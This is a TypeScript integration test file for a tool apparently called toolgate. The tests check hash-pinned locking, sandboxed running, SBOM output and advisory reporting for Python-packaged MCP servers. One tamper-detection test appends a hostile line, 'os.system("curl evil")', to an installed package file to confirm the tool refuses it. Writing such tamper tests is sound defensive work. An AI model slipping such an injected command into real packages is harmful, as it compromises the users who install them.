import {
  appendFileSync,
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { eventually, runToolgate, startStdioGateway, type Running } from './harness.js';
import { buildWheel, PIP_ISOLATED, sha256, startIndex, type PypiIndex } from './pypi-rig.js';
import type { CdxBom } from '../../src/sbom/build.js';
import { serveBulk } from '../fixtures/npm-bulk/serve.js';
import { cycloneDxSchema } from '../fixtures/schemas/validate.js';

/**
 * uvx / `uv tool run` / `pipx run` servers managed like npx ones: `toolgate lock` resolves the exact
 * release and its dependency tree from a Python index (here a PEP 503 index on 127.0.0.1 serving a
 * tiny stdlib MCP server wheel and the one pure-Python wheel it depends on), pins every wheel's
 * sha256, installs them hash-checked into the package store, and `run` starts the console script
 * from there under the default sandbox: no uvx (none is installed), no network. The clone lives
 * under a 0700 folder, as under root's home; the store and state folders where the sandbox uid passes.
 */

const TINYMCP = 'tinymcp-1.0.0-py3-none-any.whl';
const TINYSHOUT = 'tinyshout-1.0.0-py3-none-any.whl';

interface PypiLockEntry {
  package: { kind: string; python: string; tree: string; distributions: Record<string, string> };
  tools: Record<string, unknown>;
}

let gw: Running | undefined;
afterEach(async () => {
  await gw?.close();
  gw = undefined;
});

describe('uvx and pipx servers installed into the package store by lock, run from it sandboxed', () => {
  let index: PypiIndex;
  let wheels: { mcp: Buffer; shout: Buffer };
  const home = mkdtempSync(join(tmpdir(), 'toolgate-home-')); // 0700, like /root
  const clone = join(home, 'clone');
  const shared = mkdtempSync(join(tmpdir(), 'toolgate-shared-'));
  chmodSync(shared, 0o755);
  const store = join(shared, 'store');
  const env = { ...PIP_ISOLATED, XDG_STATE_HOME: join(shared, 'state') };
  const config = join(clone, 'toolgate.yaml');
  const toolgate = (args: string[]) =>
    runToolgate([...args, '--config', config], { cwd: clone, env, timeoutMs: 300_000 });
  const lockOf = () =>
    JSON.parse(readFileSync(join(clone, 'toolgate.lock'), 'utf8')) as {
      servers: Record<string, PypiLockEntry>;
    };

  beforeAll(async () => {
    index = await startIndex();
    wheels = {
      shout: buildWheel('tinyshout'),
      mcp: buildWheel('tinymcp', {
        requires: 'tinyshout==1.0.0',
        script: 'tinymcp=tinymcp.server:main',
      }),
    };
    index.files.set('tinymcp', new Map([[TINYMCP, wheels.mcp]]));
    index.files.set('tinyshout', new Map([[TINYSHOUT, wheels.shout]]));
    // A release with an sdist only: refused, never built.
    index.files.set('sdistonly', new Map([['sdistonly-2.0.0.tar.gz', Buffer.from('not built')]]));
    mkdirSync(clone);
    writeFileSync(
      config,
      JSON.stringify({
        lock: { store, pythonIndex: index.url },
        audit: false,
        servers: {
          shouter: { command: 'uvx', args: ['tinymcp==1.0.0'], tools: ['shout', 'note'] },
          piped: {
            command: 'pipx',
            args: ['run', '--spec', 'tinymcp==1.0.0', 'tinymcp'],
            tools: ['shout'],
          },
          fromed: {
            command: 'uv',
            args: ['tool', 'run', '--from', 'tinymcp==1.0.0', 'tinymcp'],
            tools: ['shout'],
          },
        },
      }),
    );
  });
  afterAll(async () => {
    await index.close();
  });

  it('[PKG-13] lock pins every wheel of the tree by sha256, run calls a tool from the store with no index reached', async () => {
    const locked = await toolgate(['lock']);
    expect(locked.code, locked.stderr).toBe(0);
    const lock = lockOf();
    for (const id of ['shouter', 'piped', 'fromed']) {
      const pkg = lock.servers[id]?.package;
      expect(pkg).toMatchObject({ kind: 'pypi', name: 'tinymcp', version: '1.0.0' });
      expect(pkg?.distributions).toEqual({
        [TINYMCP]: sha256(wheels.mcp),
        [TINYSHOUT]: sha256(wheels.shout),
      });
      expect(Object.keys(lock.servers[id]?.tools ?? {})).toContain('shout');
    }
    // One content-addressed entry, sealed: folders 0755, files read-only.
    const entries = readdirSync(store).filter((name) => name.startsWith('pypi+'));
    expect(entries).toHaveLength(1);
    const site = join(store, entries[0] ?? '', 'site');
    expect(statSync(join(site, 'tinyshout/__init__.py')).mode & 0o777).toBe(0o444);
    expect(statSync(join(site, 'tinymcp')).mode & 0o777).toBe(0o755);

    const asked = index.requests.length;
    gw = await startStdioGateway({}, { lock: { dir: clone }, env });
    const names = (await gw.client.listTools()).tools.map((t) => t.name).sort();
    expect(names).toEqual(['fromed__shout', 'piped__shout', 'shouter__note', 'shouter__shout']);
    const shout = await gw.client.callTool({ name: 'shouter__shout', arguments: { text: 'hi' } });
    expect(JSON.stringify(shout.content)).toContain('HI!'); // through the dependency wheel
    const piped = await gw.client.callTool({ name: 'piped__shout', arguments: { text: 'yo' } });
    expect(JSON.stringify(piped.content)).toContain('YO!');
    // Its data goes to its own state folder, owned by its sandbox uid.
    await gw.client.callTool({ name: 'shouter__note', arguments: { text: 'kept' } });
    const state = join(env.XDG_STATE_HOME, 'toolgate/shouter');
    expect(readFileSync(join(state, 'notes.txt'), 'utf8')).toBe('kept\n');
    expect(statSync(state).uid).not.toBe(process.getuid?.());
    expect(index.requests.length).toBe(asked); // nothing fetched at run time
    expect(gw.stderr.join('\n')).not.toContain('PACKAGE_UNMANAGED_LAUNCHER');
  });

  it('[SBOM-6] sbom lists the locked server and its dependency wheel with the sha256 the lock pins', async () => {
    const made = await toolgate(['sbom', 'shouter']);
    expect(made.code, made.stderr).toBe(0);
    const bom = JSON.parse(made.stdout) as CdxBom;
    expect(cycloneDxSchema()(bom), 'the published CycloneDX 1.6 schema').toEqual([]);
    const pkg = lockOf().servers['shouter']?.package;
    const [app] = bom.components;
    expect(app).toMatchObject({
      type: 'application',
      'bom-ref': 'server:shouter',
      purl: 'pkg:pypi/tinymcp@1.0.0',
      hashes: [{ alg: 'SHA-256', content: pkg?.distributions[TINYMCP] }],
    });
    expect(app?.properties).toContainEqual({ name: 'toolgate:python', value: pkg?.python });
    expect(app?.components).toEqual([
      expect.objectContaining({
        type: 'library',
        purl: 'pkg:pypi/tinyshout@1.0.0',
        hashes: [{ alg: 'SHA-256', content: sha256(wheels.shout) }],
        properties: [{ name: 'toolgate:wheel', value: TINYSHOUT }],
      }),
    ]);
    expect(pkg?.distributions[TINYSHOUT]).toBe(sha256(wheels.shout));
    expect(bom.dependencies).toContainEqual({
      ref: 'server:shouter',
      dependsOn: ['shouter:pkg:pypi/tinyshout@1.0.0'],
    });
    expect(bom.compositions).toEqual([{ aggregate: 'complete', assemblies: ['server:shouter'] }]);
    expect(made.stderr).not.toContain('left out');
  });

  it('[SBOM-7] deps --osv reports a PyPI advisory naming the dependency wheel and exits 1', async () => {
    const osv = mkdtempSync(join(tmpdir(), 'toolgate-osv-'));
    const affected = (name: string, more: Record<string, unknown>) => ({
      package: { ecosystem: 'PyPI', name },
      ...more,
    });
    writeFileSync(
      join(osv, 'advisories.json'),
      JSON.stringify([
        {
          id: 'PYSEC-TEST-1',
          summary: 'shouts too loud',
          affected: [affected('TinyShout', { versions: ['1.0.0'] })],
        },
        // A PEP 440 range that ends before the locked release: not reported.
        {
          id: 'PYSEC-TEST-2',
          affected: [
            affected('tinyshout', {
              ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '1.0.0' }] }],
            }),
          ],
        },
        // The same name in the npm ecosystem is another package.
        {
          id: 'GHSA-npm-only',
          affected: [{ package: { ecosystem: 'npm', name: 'tinyshout' }, versions: ['1.0.0'] }],
        },
        // A range that holds 1.0.0 (before 1.0.1rc1), rated low: reported, below --fail-on.
        {
          id: 'PYSEC-TEST-3',
          database_specific: { severity: 'LOW' },
          affected: [
            affected('tinymcp', {
              ranges: [
                { type: 'ECOSYSTEM', events: [{ introduced: '0.9' }, { fixed: '1.0.1rc1' }] },
              ],
            }),
          ],
        },
      ]),
    );
    const found = await toolgate(['deps', 'shouter', '--osv', osv]);
    expect(found.code, found.stderr).toBe(1); // unrated counts as high, the default --fail-on
    expect(found.stdout).toMatch(
      /^UNKNOWN +shouter +tinyshout@1\.0\.0 +PYSEC-TEST-1 +shouts too loud/m,
    );
    expect(found.stdout).toMatch(
      /^LOW +shouter +tinymcp@1\.0\.0 +PYSEC-TEST-3 .*\(fixed in 1\.0\.1rc1\)/m,
    );
    expect(found.stdout).not.toContain('PYSEC-TEST-2');
    expect(found.stdout).not.toContain('GHSA-npm-only');
    const low = await toolgate([
      'deps',
      'shouter',
      '--osv',
      join(osv, 'advisories.json'),
      '--fail-on',
      'critical',
    ]);
    expect(low.code, low.stderr).toBe(0);
    // The npm registry's bulk endpoint knows no PyPI package: with no npm package, it is not asked.
    const registry = await serveBulk({ status: 200, body: '{}' });
    try {
      const asked = await toolgate(['deps', 'shouter', '--registry', registry.url]);
      expect(asked.code, asked.stderr).toBe(0);
      expect(asked.stdout).toContain(
        `not ${registry.url} (--registry): no npm package; PyPI packages: not asked`,
      );
      expect(registry.requests).toEqual([]);
    } finally {
      await registry.close();
    }
  });

  it('[PKG-13] a changed wheel on the index for the locked release is refused by lock as a rug pull; approve takes it', async () => {
    const before = readFileSync(join(clone, 'toolgate.lock'));
    const changed = buildWheel('tinyshout', { extraFile: 'import os  # new\n' });
    index.files.get('tinyshout')?.set(TINYSHOUT, changed);
    try {
      const locked = await toolgate(['lock', 'shouter']);
      expect(locked.code).toBe(1);
      expect(locked.stderr).toContain('PACKAGE_TAMPERED');
      expect(locked.stderr).toContain(
        `the index now serves ${TINYSHOUT} with sha256 ${sha256(changed)}`,
      );
      expect(locked.stderr).toContain(`toolgate.lock pinned ${sha256(wheels.shout)}`);
      expect(locked.stderr).toContain('a rug pull or a republish');
      expect(readFileSync(join(clone, 'toolgate.lock')).equals(before)).toBe(true);
      // After review, approve takes the new file for that server alone.
      const approved = await toolgate(['approve', 'shouter']);
      expect(approved.code, approved.stderr).toBe(0);
      const lock = lockOf();
      expect(lock.servers['shouter']?.package.distributions[TINYSHOUT]).toBe(sha256(changed));
      expect(lock.servers['piped']?.package.distributions[TINYSHOUT]).toBe(sha256(wheels.shout));
    } finally {
      index.files.get('tinyshout')?.set(TINYSHOUT, wheels.shout);
    }
  });

  it('[PKG-13] [SBOM-6] a tampered file of the store entry refuses the start and the SBOM', async () => {
    for (const entry of readdirSync(store).filter((name) => name.startsWith('pypi+'))) {
      const file = join(store, entry, 'site/tinyshout/__init__.py');
      chmodSync(file, 0o644);
      appendFileSync(file, '\nimport os; os.system("curl evil")\n');
    }
    gw = await startStdioGateway({}, { lock: { dir: clone }, env, awaitStart: false });
    await eventually(() => gw?.stderr.some((l) => l.includes('PACKAGE_TAMPERED')) ?? false, 60_000);
    expect(gw.stderr.join('\n')).toContain('the installed files of tinymcp==1.0.0');
    const sbom = await toolgate(['sbom']);
    expect(sbom.code).toBe(1);
    expect(sbom.stderr).toContain('SBOM_TREE_CHANGED');
    expect(sbom.stdout).toBe('');
  });

  it('[PKG-13] an sdist-only release is refused with its own code, never built', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'toolgate-sdist-'));
    const sdist = join(dir, 'toolgate.yaml');
    writeFileSync(
      sdist,
      JSON.stringify({
        lock: { store, pythonIndex: index.url },
        audit: false,
        servers: { old: { command: 'uvx', args: ['sdistonly==2.0.0'], tools: ['x'] } },
      }),
    );
    const locked = await runToolgate(['lock', '--config', sdist], { env });
    expect(locked.code).toBe(1);
    expect(locked.stderr).toContain('PACKAGE_SDIST_REFUSED');
    expect(locked.stderr).toContain('toolgate installs wheels only');
    expect(index.requests).not.toContain('/simple/sdistonly/sdistonly-2.0.0.tar.gz');
  });
});
